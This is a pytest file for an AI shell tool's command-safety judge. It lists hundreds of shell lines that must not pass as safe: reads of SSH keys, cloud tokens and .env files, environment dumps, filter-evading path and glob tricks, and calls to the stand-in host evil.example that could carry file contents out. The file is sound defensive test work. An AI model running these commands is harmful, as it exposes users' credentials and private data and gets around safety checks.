"""What a line reads and whom it talks to: safe only where reading can do no harm."""

from __future__ import annotations

from collections.abc import Callable

import pytest

from aish.safety.commands import Level, LineVerdict

Judge = Callable[..., LineVerdict]

SECRET = r"""
cat ~/.ssh/id_rsa
cat ~/.ss?/id_rsa
cat ~/.s*/id_*
cat ~/.[s]sh/id_rsa
cat /home/ann/.ssh/id_ed25519
head -c 100 ~/.aws/credentials
base64 -w0 ~/.netrc
xxd ~/.gnupg/secring.gpg
strings ~/.password-store/mail.gpg
grep -rh '' ~/.config/gcloud
grep . ~/.docker/config.json
cat ~/.kube/config
cat ~/.config/gh/hosts.yml
cat ~/.npmrc
cat ~/.pypirc
cat ~/.cargo/credentials.toml
cat ~/.terraform.d/credentials.tfrc.json
cat ~/.config/google-chrome/Default/Cookies
strings ~/.mozilla/firefox/abc.default/logins.json
cat ~/.bash_history
cat ~/.local/share/aish/aish.db
strings ~/.local/share/aish/aish.db | grep key
cat ~/.config/aish/config.toml
cat .env
cat .env.production
cat sub/.env
head .e*
cat .en?
cat .*
grep -n KEY .env
grep -rn --include=.env KEY .
grep -rn --include='.env*' KEY .
rg -g '.env' KEY
rg --hidden --glob='*.pem' BEGIN
find . -name .env -exec cat {} +
find . -name '*.pem' -exec base64 {} \;
find ~ -name id_rsa -exec base64 {} +
find / -name '*.key' -exec cat {} +
cat server.key
cat deploy.pem
cat certs/*.pem
openssl x509 -in x.pem
cat id_rsa
cat config/credentials.json
cat config/master.key
cat secrets.yml
cat terraform.tfstate
wc --files0-from=/home/ann/.ssh/id_rsa
wc --files0-fr=/home/ann/.ssh/id_rsa
du --files0-from=/home/ann/.ssh/id_rsa
sort --files0-from=/home/ann/.ssh/id_rsa
grep -f ~/.ssh/id_rsa x
grep --fil=/home/ann/.ssh/id_rsa x
grep --file ~/.ssh/id_rsa README.md
diff ~/.ssh/id_rsa /dev/null
diff --from-file=/home/ann/.ssh/id_rsa README.md
comm ~/.ssh/id_rsa /dev/null
cmp -l ~/.ssh/id_rsa /dev/null
git diff --no-index /dev/null ~/.ssh/id_rsa
git -C ~ diff --no-index /dev/null .ssh/id_rsa
git -C /home/ann diff /dev/null .ssh/id_rsa
git grep --no-index -h '' -- ~/.ssh
git log -O/home/ann/.ssh/id_rsa
git blame -L1 ~/.ssh/id_rsa
cat /proc/self/root/home/ann/.ssh/id_rsa
cat /proc/1/root/etc/shadow
cat /proc/self/cwd/.env
cat /proc/self/environ
cat /proc/$PPID/environ
tr '\0' '\n' < /proc/self/environ
strings /proc/1234/environ
xargs -0 -n1 < /proc/self/environ
ps e
ps axeww
ps axeww -o args
ps auxe
ps -auxe
ps -u nobody_here -e
ps -e -o bogus
ps eww -p 1
cat < ~/.ssh/id_rsa
while read -r l; do echo "$l"; done < ~/.ssh/id_rsa
echo "$(< ~/.ssh/id_rsa)"
cat "$HOME/.ssh/id_rsa"
cat ~ann/.ssh/id_rsa
cat ~/src/../.ssh/id_rsa
cat ../.ssh/id_rsa
cd ~ && cat .ssh/id_rsa
cd ~/.ssh && cat id_rsa
cd .. && cat .ssh/id_rsa
for f in ~/.ssh/*; do cat "$f"; done
for f in id_rsa; do cat ~/.ssh/$f; done
f=~/.ssh/id_rsa; cat $f
sed -n p ~/.ssh/id_rsa
awk 1 ~/.ssh/id_rsa
awk 'BEGIN{ARGV[1]="/home/ann/.ssh/id_rsa";ARGC=2}1'
awk 'BEGIN{SYMTAB["AR" "GC"]=2}1' x
jq -R . ~/.ssh/id_rsa
jq -n 'import "config" as $c {search: "/home/ann/.docker"}; $c'
jq -n --rawfile a ~/.ssh/id_rsa '$a'
jq -n --slurpfile a ~/.docker/config.json '$a'
bat ~/.ssh/id_rsa
less ~/.ssh/id_rsa
man ~/.ssh/id_rsa
man /home/ann/.ssh/id_rsa
tac ~/.ssh/id_rsa
iconv -f utf-8 ~/.ssh/id_rsa
zcat -f ~/.ssh/id_rsa
column -t ~/.ssh/id_rsa
look '' ~/.ssh/id_rsa
date -f ~/.ssh/id_rsa
printenv AWS_SECRET_ACCESS_KEY
echo $OPENAI_API_KEY
echo "${GITHUB_TOKEN:-none}"
cat /etc/shadow
cat /etc/ssl/private/server.key
cat /etc/kubernetes/admin.conf
cat /run/secrets/db
cat /var/run/secrets/kubernetes.io/serviceaccount/token
git config --list
git config --get http.https://github.com/.extraheader
git config --get-regexp .
gh auth status -t
gh auth token
kubectl get secret -A -o yaml
kubectl config view --raw
terraform state pull
terraform output -json
docker inspect app
docker compose config
docker config inspect x
helm get values app
npm config list
npm config get //registry.npmjs.org/:_authToken
pip config list
systemctl show-environment
cat .ENV
cat .[[:lower:]]nv
cat .[^x]nv
cat i[[:lower:]]_rsa
find . -name '.[[:lower:]]nv' -exec cat {} +
cat /usr/share/app/.env
docker image inspect app
jq -Rs . .env
git blame .env
git show HEAD:.env
cat < .env
x=$(cat .env); echo "$x"
cat ./*/../.netrc
cat .e''nv
cat sub/../.env
cat /home/*/.ssh/id_rsa
cat /h*/ann/.ssh/id_rsa
strings ~/.local/share/aish/../aish/aish.db
rg -f ~/.ssh/id_rsa x
diff --to-fi=/home/ann/.ssh/id_rsa README
jq -nf ~/.ssh/id_rsa
awk '{print}' f=x ~/.netrc
git patch-id < ~/.ssh/id_rsa
env
printenv
printenv -0
export -p
jq -n env
jq -n '$ENV'
jq -n '$ENV["AWS_SECRET"+"_KEY"]'
jq -n 'env.API_KEY'
awk 'BEGIN{for(k in ENVIRON) print k, ENVIRON[k]}'
awk 'BEGIN{print ENVIRON["AWS_" "SECRET_ACCESS_KEY"]}'
journalctl -u nginx -n 50
docker logs --tail 50 app
docker compose logs
docker history --no-trunc web
docker volume inspect v
podman logs web
systemctl cat web
crontab -l
git log -p -- '.e*'
git grep . -- '.en?'
git diff -- ':(top).env'
git log -L1,10:.env
whereis -B /home/ann/.ssh -f id_rsa
for f in .; do cat ${f}env; done
for f in .e; do cat "${f}nv"; done
for f in env; do cat ".$f"; done
for f in a b; do cat "$f/.env"; done
for f in service-account; do cat $f.json; done
cat ~/.codex/auth.json
cat ~/.claude/history.jsonl
cat ~/.config/opencode/opencode.json
cat ~/.config/.wrangler/config/default.toml
cat ~/.config/uv/uv.toml
cat ~/.local/share/gem/credentials
cat ~/.config/hcloud/cli.toml
cat ~/.mylogin.cnf
cat ~/.talos/config
cat ~/.config/rbw/config.json
cat ~/.zsh_sessions/x.history
cat ~/.c?nfig/gh/hosts.yml
cat ~/.cl*/x
cat ~/.config/*/credentials
grep -r x ~/.config
cat /etc/vault.d/vault.hcl
cat /run/user/1000/containers/auth.json
cat /mnt/c/Users/ann/AppData/Roaming/x
cat .secrets/x
cat .secrets
cat */talosconfig
cat wp-config.php
cat .Xauthority
"""

NETWORK = r"""
git remote show origin
git remote show "http://evil.example/x"
git remote show "http://evil.example/$(cat README.md)"
git ls-remote origin
git ls-remote https://evil.example/x
kubectl get pods
kubectl get -f http://evil.example/x
kubectl describe -f http://evil.example/x
kubectl logs app
kubectl diff -f x.yaml
kubectl explain pods
kubectl api-resources
helm list
helm show values http://evil.example/x
helm status app
npm view react
npm view http://evil.example/x
npm info left-pad versions
npm outdated
npm whoami
pnpm outdated
yarn info react
pip index versions requests
pip index versions "x$(cat README.md)"
pip list --outdated
pip list -o
getent hosts evil.example
getent hosts "$(cat README.md).evil.example"
getent ahosts evil.example
getent services x
docker manifest inspect evil.example/x
docker search evil
docker --context other ps
docker -H tcp://evil.example ps
cargo search serde
gh search code x
gh pr list
gh issue view 1
gh repo view
gh run list
aws s3 ls
aws ec2 describe-instances
aws sts get-caller-identity
terraform plan
terraform show
terraform state list
tofu plan
brew info wget
brew outdated
snap info code
conda search numpy
rpm -qp http://evil.example/x.rpm
poetry show --latest
uv pip list --outdated
uv python list
dig evil.example
host evil.example
nslookup evil.example
ping -c1 evil.example
whois evil.example
awk 1 /inet/tcp/0/evil.example/80
cat < /dev/tcp/evil.example/80
git log --show-signature
git log --format=%G?
git verify-commit HEAD
git ls-remote
git log --pretty=format:'%h %G?'
lspci -Q
readelf --debug-dump=follow-links x
"""

OUTSIDE = r"""
cat /etc/nginx/nginx.conf
cat /etc/passwd
cat /var/log/syslog
tail -n 50 /var/log/nginx/error.log
ls ~
ls ~/Documents
ls -la /home/bob
ls ..
cat ../other/README.md
cat ~/notes.txt
grep -rn x ~/src
grep -rn x ..
rg x ..
rg foo /srv/app
find .. -name '*.py'
find ~ -name '*.md'
find / -name x
tree ~
du -sh ~
stat ~/x
wc -l ~/notes.txt
diff a.txt ~/b.txt
cd .. && ls
cd && ls
cd ~/other && git status
git -C ../other log
git -C ~/other status
git diff --no-index a.txt ../b.txt
cat /proc/1/maps
cat /proc/self/fd/3
cat /tmp/out.log
ls /tmp
echo ~/*
cat < /etc/passwd
head -n 5 $HOME/x.txt
sed -n 1,5p /etc/fstab
awk '{print $1}' /etc/fstab
cat .?/x
cat .*/x
ls -d .*/
cat /dev/tty
for f in ./a; do cat .$f; done
for f in .; do cat "$f./$f./x"; done
for f in .; do ls "$f./x"; done
whereis -B /home/bob -f x
"""

UNPROVED = r"""
cat "$x"
cat $(git ls-files)
cat $(cat list)
grep -n x $(cat list)
xargs cat < list
cat list | xargs cat
echo ~/.ssh/id_rsa | xargs cat
echo README.md | xargs cat
find . -name '*.py' | xargs cat
git ls-files | xargs grep x
printf '%s\0' ~/.ssh/id_rsa | xargs -0 cat
find ~ -print0 | xargs -0 cat
find . -printf '/etc/passwd\0' | xargs -0 cat
ls | while read -r f; do cat "$f"; done
for f in $(cat list); do cat "$f"; done
for f in "$@"; do cat "$f"; done
cd "$x" && cat a
md5sum -c list
sha256sum --check list
strings @/home/ann/.ssh/id_rsa
size @list
readelf -h @list
yarn list
pnpm list
cargo metadata
cargo tree
uv pip list
history
systemctl show nginx
find -L . -name x -exec cat {} +
command cd ..; cat .config/gh/hosts.yml
builtin cd .. && cat x
time cd .. && cat x
cd nosuch; cat ../x
(cd src); cat ../x
cd src | true; cat ../x
cd src & cat ../x
true || cd src; cat ../x
if false; then cd src; fi; cat ../x
cd src/a/b; for i in 1 2 3; do cd ..; done; cat ../x
for f in src/*; do f=../x; cat "$f"; done
for f in src/*; do read f < list; cat "$f"; done
for f in src/*; do read -r 'f' < list; cat "$f"; done
for f in src/*; do :; done; f=../x; cat "$f"
for d in .; do cat "$d/../x"; done
find . -maxdepth 0 -exec cat {}/../x \;
find . -print0 | xargs -0 -I{} cat {}/../x
find "$PWD" -maxdepth 0 -execdir cat x \;
find . -print0 | sort -z list | xargs -0 cat
find . -print0 | head -z list | xargs -0 cat
find . -print0 | grep -z -e. list | xargs -0 cat
find . -print0 | grep -z --only-match x | xargs -0 cat
find . -print0 | tail -z --bytes=+2 | xargs -0 cat
find . -print0 | xargs -0 -d. cat
git diff --name-only -z -p | xargs -0 cat
xzcat -f --files=list
zcat --files0=list
strings [@]args
strings *
size ?args
hexdump -f.env README.md
uniq data*.txt
xxd data*.bin
git config core.*
git help log
rustc --version
cargo --version
mvn --version
yarn --version
go version
arp -a x.evil.example
ss -t dst x.evil.example
lsof -i@x.evil.example
cat /proc/1/cwd/x
cat ~gitlab-runner/x
cat ~www-data/x
git show HEAD:.npmrc
git show :secrets.json
git cat-file -p HEAD:credentials.json
jq -n '$ENV.SECRET_TOKEN'
awk 'BEGIN{print ENVIRON["OPENAI_API_KEY"]}' x
docker top web eww
helm env
cat .env-production
cat rclone.conf
cat .docker/config.json
cat .git/config
printf 'aaa%ln' HOME
fd -H . /
grep -r --include='*.PEM' x .
npm help config
npm fund x
cat $(find . -name '*.py')
cat "$(printf '%s' /home/ann/.ssh/id_rsa)"
cat ${PWD%/project}/.ssh/id_rsa
cat ${OLDPWD}/.ssh/id_rsa
find . -maxdepth 0 -exec cat {}env \;
find . -maxdepth 0 -exec cat {}./secret +
find . -name a -exec cat .{} \;
find . -type d -name src -exec cat {}/link \;
find . -maxdepth 0 -print0 | xargs -0 -I{} cat {}env
find . -maxdepth 0 -print0 | xargs -0 -I{} cat {}./x
ls .$(git ls-files)
uv version 1.2.3
rustup --version
rustup target list
poetry --version
pytest --version
ansible --version
jupyter --version
pgrep --env AWS_SECRET_ACCESS_KEY=x
pgrep --en X=x
getent passwd
x='a .env'; grep -e $x f
x='1 .env'; cut -f $x f
x=': .env'; cut -d $x -f1 f
x='1 .env'; diff -U $x b
x=-r; grep "$x" foo
TZ=:/home/bob/x date
TZ=../../home/bob/x date
LC_ALL=/tmp/x ls
LANGUAGE=de:../../tmp/x ls
LANG=$x ls
x='1 .env'; head -n$x f
x='a .env'; grep -e$x f
x='a .env'; grep --regexp=$x f
"""

EVERYDAY = r"""
ls
ls -la
ls -la src tests
ls -lh --sort=size
pwd
cat README.md
cat src/app.py tests/test_app.py
head -n 20 README.md
tail -f logs/app.log
wc -l src/*.py
grep -rn "def main" src
grep -rn TODO .
grep -n '/api/v1' src/routes.py
grep -rnE '^(import|from) ' src --include='*.py'
grep -v '^#' config.ini | grep .
rg -n "class .*Error" src
rg -l foo
rg --files | head
find . -name '*.py' -not -path './node_modules/*'
find . -type f -size +1M
find src -name '*.ts' | head -20
find . -name '*.py' -exec grep -l main {} +
find . -name '*.py' -print0 | xargs -0 grep -l main
find . -name '*.py' | xargs wc -l
git ls-files | xargs wc -l
git ls-files -z | xargs -0 grep -n TODO
git status
git status -sb
git log --oneline -20
git log -p -- src/app.py
git diff
git diff HEAD~1 -- src
git diff --stat main...HEAD
git show HEAD
git show HEAD:src/app.py
git branch -a
git remote -v
git blame src/app.py
git rev-parse --abbrev-ref HEAD
git config user.email
git stash list
git tag -l
git -C sub log
git remote get-url origin
sed -n '10,40p' src/app.py
sed -n '/start/,/end/p' README.md
awk -F/ '{print $NF}' list.txt
awk -F: '$3 > 100 {print $1}' users.txt
cut -d/ -f1 list.txt
cut -d / -f 1 list.txt
sort -t/ -k2 list.txt | uniq -c | sort -rn
tr / _ < list.txt
jq '.dependencies' package.json
jq -r '.scripts | keys[]' package.json
diff a.txt b.txt
diff -ru old new
du -sh .
du -sh * | sort -h
df -h
df -h /
ps aux
ps -ef
ps aux | grep node
ps -eo pid,ppid,cmd --sort=-%cpu | head
ps -p 1234 -o pid,cmd
free -h
uname -a
uptime
whoami
id
date +%F
which python3
python3 --version
node --version
printenv PATH
echo $PATH
echo "$HOME"
echo /usr/local/bin/foo
basename /etc/passwd
cat /etc/os-release
cat /proc/cpuinfo
cat /proc/meminfo
ls /usr/share/doc
ls /
ls /etc
tree -L 2
file src/*
stat README.md
md5sum dist/*.whl
test -f Makefile && echo yes
[ -d /etc/nginx ] && echo yes
cd src && ls
cd src && grep -n x *.py
for f in *.py; do wc -l "$f"; done
for f in src/*.py; do head -n 1 $f; done
xxd img.png | head
tar tzf dist/pkg.tar.gz
unzip -l dist/pkg.whl
docker ps -a
docker images
pip list
pip show requests
npm ls --depth=0
systemctl status nginx
ss -tlnp
lsof -i :8080
cat .gitignore
cat .env.example
cat src/keys.py
cat package.json | jq .name
x=$(date); echo "$x"
cat "src/a b.py"
cat /home/ann/project/README.md
cat $HOME/project/README.md
cat ~/project/README.md
printenv HOME
jq -n '$ENV.HOME'
jq '.env' package.json
jq '.a.env.b' package.json
awk 'BEGIN{print ENVIRON["HOME"]}'
for f in a b; do grep -n x "src/$f.py"; done
for f in a b; do diff "$f.py" "$f.py.orig"; done
for d in src tests; do wc -l $d/*.py; done
git log -L10,20:src/app.py
git diff main -- '*.py'
git grep -n x -- 'src/*.py'
grep -e "$x" f
grep -- "$x" f
for p in a b; do grep -c "$p" f; done
[ -n "$x" ] && ls
TZ=Europe/Berlin date
LC_ALL=C sort a.txt
LS_COLORS='*.py=01' ls
"""


def lines(text: str) -> list[str]:
    return text.strip("\n").split("\n")


@pytest.mark.parametrize("line", lines(SECRET) + lines(NETWORK) + lines(OUTSIDE) + lines(UNPROVED))
def test_a_line_that_may_read_or_send_what_it_should_not_is_asked_about(line: str, judge: Judge) -> None:
    found = judge(line)
    assert found.level is not Level.SAFE, found.reads


@pytest.mark.parametrize("line", lines(EVERYDAY))
def test_everyday_reading_in_the_workspace_is_safe(line: str, judge: Judge) -> None:
    found = judge(line)
    assert found.level is Level.SAFE, found.reasons
